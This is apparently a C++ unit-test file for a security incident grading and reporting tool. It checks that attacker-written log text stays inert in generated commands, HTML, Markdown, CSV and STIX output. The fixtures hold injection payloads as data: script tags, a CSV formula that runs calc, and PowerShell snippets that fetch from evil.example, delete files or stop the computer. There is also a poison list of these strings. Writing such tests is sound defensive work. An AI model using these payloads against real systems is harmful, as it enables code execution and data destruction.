// Logs are written by attackers: what they write stays text in every report and never becomes part
// of a command.
#include <doctest/doctest.h>

#include <algorithm>

#include "base/json.h"
#include "base/time.h"
#include "grade/custody.h"
#include "grade/grade.h"
#include "grade/indicators.h"
#include "grade/report.h"
#include "unit/grade/tables.h"

using namespace crumb;
using namespace crumb::grade;

namespace {

const std::vector<std::pair<std::string, std::string>> kHostile = {
    {"EntraIdSignInEvents",
     R"(union BaseSignIns, SignIn(T0, "a1", "203.0.113.45", "NL", "<script>alert(1)</script> Linux Chrome", true, "", 0), TailSignIns)"},
    {"CloudAppEvents",
     R"(union BaseActs, Act(T0 + 10m, "a1", "203.0.113.45", "NL", "=cmd|'/c calc'!A1 hosting", Chrome, "New-InboxRule", RuleParameters("$(iwr evil.example)'; Remove-Mailbox ana \u2018x\u202E| <img src=x onerror=alert(1)>", "invoice", "RSS Feeds", "True")), TailActs)"},
    {"UrlClickEvents",
     R"(union BaseClicks, Click(T0 - 110s, "https://login.m365-secure.example/$(whoami)?a=';Stop-Computer"), Click(T0 - 100s, "https://evil`n.example/x"), TailClicks)"},
    {"DeviceNetworkEvents",
     R"(union BaseConnections, Connection(T0 - 108s, "203.0.113.45", "login.m365-secure.example"), TailConnections)"},
    {"EmailEvents",
     R"(print Timestamp = T0 - 1h, NetworkMessageId = "nm-1", SenderFromAddress = "ap'; Remove-Item -Recurse C:\\ #@northwlnd.example", Subject = "<b>pay</b>", EmailDirection = "Inbound", RecipientEmailAddress = Upn)"},
    {"AlertInfo",
     R"(union AlertHead(T0 + 3m, "g1", GradedTitle, "High", "Microsoft Defender XDR"), AlertHead(T0 + 5m, "a2", "<script>alert('t')</script> | `x` \u202Eevil", "High", "Other"), BaseAlertHeads)"},
    {"AlertEvidence",
     R"(union AlertUser(T0 + 3m, "g1", GradedTitle), AlertUser(T0 + 5m, "a2", "x"), BaseAlertEvidence)"}};

const std::vector<std::string_view> kPoison = {
    "iwr",   "Remove-Mailbox ana", "whoami", "Stop-Computer", "Remove-Item", "<script", "onerror",
    "evil`n"};

Graded grade_all(std::string upn = {}) {
  const Catalog catalog = grade::testing::catalog_of(kHostile);
  const std::vector<SourceFile> files = {
      {.name = "<img src=x>.csv", .table = "x", .rows = 1, .rejected = 0, .truncated = false}};
  GradeRequest request;
  request.decisions.own_networks = {"198.51.100.0/26"};
  if (!upn.empty()) {
    request.user_upn = std::move(upn);
    request.at_ticks = *parse_iso_datetime("2026-11-16T09:21:58Z");
  }
  auto graded = grade::grade(catalog, files, [](RowRef row) { return row.record; }, request);
  REQUIRE_MESSAGE(graded.has_value(), graded.error().message);
  return std::move(*graded);
}

Grading grade_it(std::string upn = {}) { return std::move(grade_all(std::move(upn)).grading); }

const std::vector<std::string> kTricks = {"<script>alert(1)</script>",
                                          "\"><img src=x onerror=alert(1)>",
                                          "=cmd|'/c calc'!A1",
                                          "\u202Efdp.exe",
                                          "\x1b[31mred\x1b[0m",
                                          "'; DROP --",
                                          "`$(whoami)`",
                                          "a\r\n- **b** | c",
                                          std::string(1 << 20, 'A') + "<script>"};

// Every field of a handover that a log can fill, filled with one trick.
Handover handover_with(const std::string& trick) {
  Handover out;
  const std::vector<Origin> origin = {{.row = {0, 1}, .file = trick, .line = 2, .table = "x"}};
  for (const std::string_view kind :
       {"address", "domain", "url", "sender", "sha256", "session", "token", "user-agent"}) {
    out.indicators.push_back({.kind = std::string(kind),
                              .value = trick,
                              .note = trick,
                              .first_ticks = 0,
                              .last_ticks = 0,
                              .events = 1,
                              .origin = origin});
    out.indicator_totals.push_back({.kind = std::string(kind), .rows = 1, .amount = 1});
  }
  for (const std::string_view kind : {"mail read", "file", "mail sent", "rule or forwarding"}) {
    out.exposed.push_back({.kind = std::string(kind),
                           .item = trick,
                           .place = trick,
                           .detail = trick,
                           .amount = 1,
                           .events = 1,
                           .attribution = 1,
                           .first_ticks = 0,
                           .last_ticks = 0,
                           .origin = origin});
    out.exposed_totals.push_back({.kind = std::string(kind), .rows = 1, .amount = 1});
  }
  out.problems = {trick};
  return out;
}

std::vector<Strip> strips_with(const std::string& trick) {
  return {{.title = trick,
           .begin_ticks = 0,
           .end_ticks = 100,
           .t0_ticks = 50,
           .lanes = {{.title = trick,
                      .subtitle = trick,
                      .alerted = true,
                      .marks = {{.begin_ticks = 10,
                                 .end_ticks = 10,
                                 .origin_class = "ALIEN",
                                 .weight = 2,
                                 .count = 1,
                                 .label = trick,
                                 .origin = {}}}}},
           .lanes_left_out = 0}};
}

Decisions decisions_with(const std::string& trick) {
  Decisions out;
  out.overrides.push_back({.subject = {},
                           .target = "grade",
                           .to = "unknown",
                           .reason = trick,
                           .evidence = trick,
                           .by = trick,
                           .second = trick,
                           .at_ticks = 0});
  return out;
}

Report report_with(const Grading& grading, const ReportFiles& files, Audience audience,
                   const std::string& trick) {
  const std::vector<Handover> handovers = {handover_with(trick)};
  const std::vector<std::vector<Strip>> strips = {strips_with(trick)};
  const Decisions decisions = decisions_with(trick);
  return build_report({.grading = grading,
                       .handovers = handovers,
                       .strips = strips,
                       .files = files,
                       .decisions = decisions,
                       .row_hash = {}},
                      audience);
}

}  // namespace

TEST_CASE("no text of a log stands in a command or in the lists that commands read") {
  const Grading grading = grade_it();
  REQUIRE(grading.verdicts.size() == 1);
  const Verdict& verdict = grading.verdicts[0];
  CHECK(verdict.classification == "truePositive");
  std::size_t commands = 0;
  for (const Action& action : verdict.actions)
    for (const Command& command : action.commands) {
      ++commands;
      for (const std::string_view poison : kPoison)
        CHECK(command.text.find(poison) == std::string::npos);
      CHECK(command.text.find('\n') == std::string::npos);
      CHECK(command.text.find("203.0.113.45") == std::string::npos);
      CHECK(command.text.find("ana.reyes") == std::string::npos);
    }
  CHECK(commands > 5);
  CHECK(verdict.block.senders.empty());
  CHECK(verdict.block.domains == std::vector<std::string>{"login.m365-secure.example"});
  CHECK(verdict.block.urls.empty());
  CHECK(!verdict.block.unsafe.empty());
  const auto case_file = json::parse(case_json(verdict, {}));
  REQUIRE(case_file.has_value());
  std::string block;
  json::append(block, *case_file->find("block"));
  for (const std::string_view poison : kPoison) CHECK(block.find(poison) == std::string::npos);
}

TEST_CASE("a user name that is none: commands are not offered") {
  const Grading grading = grade_it("ana'; Remove-Mailbox@example.com");
  for (const Action& action : grading.verdicts[0].actions) {
    if (action.id != "R1" && action.id != "R0") continue;
    CHECK(action.commands.empty());
    CHECK(action.why.find("not offered") != std::string::npos);
  }
  const auto case_file = json::parse(case_json(grading.verdicts[0], {}));
  REQUIRE(case_file.has_value());
  CHECK(*case_file->find("user")->find("upn")->as_string() == "");
  for (const MissingTable& table : grading.verdicts[0].missing) {
    const std::size_t at = table.query.find("let CaseUpn = ");
    if (at != std::string::npos)
      CHECK(table.query.substr(at, 60).find("@\"ana'; remove-mailbox@example.com\";") !=
            std::string::npos);
  }
}

TEST_CASE("reports show hostile text as text") {
  const Grading grading = grade_it();
  const ReportFiles files{.files_json = "[]",
                          .lines = {"<img src=x onerror=alert(1)>.csv: x"},
                          .files = {},
                          .pack = {}};
  const Report report = report_with(grading, files, Audience::kSoc, "x");
  const std::string html = report_html(report);
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("href") == std::string::npos);
  CHECK(html.find("&lt;script&gt;") != std::string::npos);
  const std::string markdown = report_markdown(report);
  for (std::size_t at = markdown.find("<script"); at != std::string::npos;
       at = markdown.find("<script", at + 1))
    CHECK(markdown[at - 1] == '\\');
  CHECK(markdown.find("\\<img") != std::string::npos);
  const std::string text = report_text(grading, files);
  CHECK(text.find("\u202E") == std::string::npos);
  CHECK(text.find("\\u{202e}") != std::string::npos);
  CHECK(text.find('\x1b') == std::string::npos);
  CHECK(text.find("https://login") == std::string::npos);  // defanged
  REQUIRE(json::parse(verdict_json(grading, files)).has_value());
}

TEST_CASE("a value that is pasted into KQL stays one string") {
  const Verdict verdict = grade_it("x\" | union * //@example.com").verdicts[0];
  const std::string query = copy_for_defender(verdict, "1.0", {});
  CHECK(query.find("let CaseUpn = @\"x\"\" | union * //@example.com\";") != std::string::npos);
  CHECK(copy_for_defender(verdict, "H1", {}).empty());
}

TEST_CASE("a handover report shows every trick as text, to every audience") {
  const Grading grading = grade_it();
  for (const std::string& trick : kTricks) {
    ReportFiles files;
    files.files.push_back({.name = trick,
                           .sha256 = std::string(64, 'a'),
                           .table = {},
                           .reason = trick,
                           .bytes = 1,
                           .rows = 0,
                           .rejected = 1,
                           .truncated = true});
    for (const Audience audience : {Audience::kSoc, Audience::kCustomer, Audience::kLegal}) {
      const Report report = report_with(grading, files, audience, trick);
      const std::string html = report_html(report), markdown = report_markdown(report);
      for (const std::string_view forbidden :
           {"<script", "<img", "<a ", "href", "src=\"", "\u202E", "\x1b", "\r", "url(", "@import"})
        CHECK(html.find(forbidden) == std::string::npos);
      CHECK(html.size() < 2'000'000);
      CHECK(html.find("script-src") == std::string::npos);
      CHECK(markdown.find('\x1b') == std::string::npos);
      CHECK(markdown.find("\u202E") == std::string::npos);
      CHECK(markdown.find("\n- **b**") == std::string::npos);
      CHECK(json::parse(report_json(report)).has_value());
      CHECK(report_html(report_with(grading, files, audience, trick)) == html);
    }
  }
}

TEST_CASE("no log text stands among the commands of a report") {
  const Report report = report_with(grade_it(), {}, Audience::kSoc, kPoison.back().data());
  std::size_t commands = 0;
  for (const ReportCase& one : report.cases)
    for (const ReportSection& section : one.sections)
      for (const ReportPart& part : section.parts)
        for (const std::string& code : part.code) {
          ++commands;
          for (const std::string_view poison : kPoison)
            CHECK(code.find(poison) == std::string::npos);
        }
  CHECK(commands > 5);
}

TEST_CASE("indicators: no formula in the CSV, nothing in STIX that is not plainly of its kind") {
  const Grading grading = grade_it();
  for (const std::string& trick : kTricks) {
    const std::vector<Handover> handovers = {handover_with(trick)};
    const std::string csv = indicators_csv(grading, handovers);
    CHECK(csv.find(",=") == std::string::npos);
    CHECK(csv.find("\n=") == std::string::npos);
    CHECK(csv.find('\x1b') == std::string::npos);
    CHECK(csv.find("\u202E") == std::string::npos);
    CHECK(std::ranges::count(csv, '\n') == 9);
    const std::string stix = indicators_stix(grading, handovers);
    CHECK(json::parse(stix).has_value());
    CHECK(stix.find("\"objects\"") == std::string::npos);
  }
}

TEST_CASE("STIX: ids as the specification computes them, times from the data") {
  const Grading grading = grade_it();
  Handover one;
  const auto at = *parse_iso_datetime("2026-11-16T09:21:58Z");
  one.indicators.push_back({.kind = "address",
                            .value = "198.51.100.3",
                            .note = "n",
                            .first_ticks = at,
                            .last_ticks = at,
                            .events = 2,
                            .origin = {}});
  one.indicators.push_back({.kind = "url",
                            .value = "https://a.example/o'x",
                            .note = "n",
                            .first_ticks = at,
                            .last_ticks = at,
                            .events = 0,
                            .origin = {}});
  const std::string stix = indicators_stix(grading, {one, one});
  REQUIRE(json::parse(stix).has_value());
  // uuid5("00abedb4-aa42-466c-9c01-fed23315a9b7", {"value":"198.51.100.3"})
  CHECK(stix.find("ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4") != std::string::npos);
  CHECK(stix.find("[url:value = 'https://a.example/o\\\\'x']") != std::string::npos);
  CHECK(stix.find("\"first_observed\":\"2026-11-16T09:21:58.0000000Z\"") != std::string::npos);
  CHECK(stix.find("\"number_observed\":1") != std::string::npos);
  CHECK(json::parse(stix)->find("objects")->as_array()->size() == 8);
}

TEST_CASE("hash lists name what cannot be seen only in a comment; a chain shows an edit") {
  const std::string hash(64, 'a');
  const auto list = [&](std::string name) {
    return hash_list(std::vector<InputFile>{{.name = std::move(name),
                                             .sha256 = hash,
                                             .table = {},
                                             .reason = {},
                                             .bytes = 0,
                                             .rows = 0,
                                             .rejected = 0,
                                             .truncated = false}});
  };
  CHECK(list("a b.csv") == hash + "  a b.csv\n");
  CHECK(list("a\\b.csv") == "\\" + hash + "  a\\\\b.csv\n");
  CHECK(list("a\n\u202Eb.csv") == "# " + hash + "  a\\u{a}\\u{202e}b.csv\n");
  Decisions decisions = decisions_with("first");
  decisions.overrides.push_back(decisions.overrides[0]);
  const auto before = chain_of(decisions);
  REQUIRE(before.size() == 2);
  CHECK(before[1].previous == before[0].sha256);
  decisions.overrides[0].reason = "other";
  const auto after = chain_of(decisions);
  CHECK(after[0].sha256 != before[0].sha256);
  CHECK(after[1].sha256 != before[1].sha256);
}

TEST_CASE("the customer's report has names for people; its key has no formula") {
  const Grading grading = grade_it();
  for (const std::string& trick : kTricks) {
    const Report report = report_with(grading, {}, Audience::kCustomer, trick);
    CHECK(report.key.find("\n=") == std::string::npos);
    CHECK(report.key.find(",=") == std::string::npos);
    CHECK(report.key.find("\u202E") == std::string::npos);
    CHECK(report.key.find("user-1,ana.reyes@example.com") != std::string::npos);
    CHECK(report_json(report).find("ana.reyes@example.com") == std::string::npos);
    CHECK(report_html(report).find("ana[.]reyes@example[.]com") == std::string::npos);
  }
  CHECK(report_with(grading, {}, Audience::kLegal, "x").key.empty());
}

TEST_CASE("the blocks of each audience") {
  CHECK(depth_of(Block::kClocks, Audience::kSoc) == Depth::kNone);
  CHECK(depth_of(Block::kIndicators, Audience::kLegal) == Depth::kNone);
  CHECK(depth_of(Block::kExposure, Audience::kCustomer) == Depth::kShort);
  const Grading grading = grade_it();
  const std::string html =
      report_html(report_with(grading, {}, Audience::kCustomer, "secret-item"));
  CHECK(html.find(" dB") == std::string::npos);
  CHECK(html.find("Items, with the rows") == std::string::npos);
}
